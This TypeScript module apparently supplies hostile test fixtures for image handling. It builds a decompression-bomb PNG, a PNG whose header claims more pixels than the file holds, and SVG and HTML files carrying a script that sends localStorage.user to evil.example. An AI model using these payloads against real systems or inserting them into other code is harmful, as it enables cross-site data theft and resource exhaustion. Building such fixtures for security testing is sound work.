import { crc32, deflateSync } from 'node:zlib'

const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

/** A valid black PNG of one bit per pixel: huge when decoded, tiny as a file. */
export function blackPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(1, 8)
  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))])
}

/** A header that declares a larger picture than the file contains. */
export function promisedPng(width: number, height: number): Buffer {
  return blackPng(8, 8).fill(headerOf(width, height), 16, 33)
}

function headerOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(17)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(1, 8)
  header.writeUInt32BE(crc32(Buffer.concat([Buffer.from('IHDR'), header.subarray(0, 13)])), 13)
  return header
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, checksum])
}

const script = '<script>fetch("https://evil.example/"+localStorage.user)</script>'
export const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)
export const html = Buffer.from(`<!doctype html>${script}`)
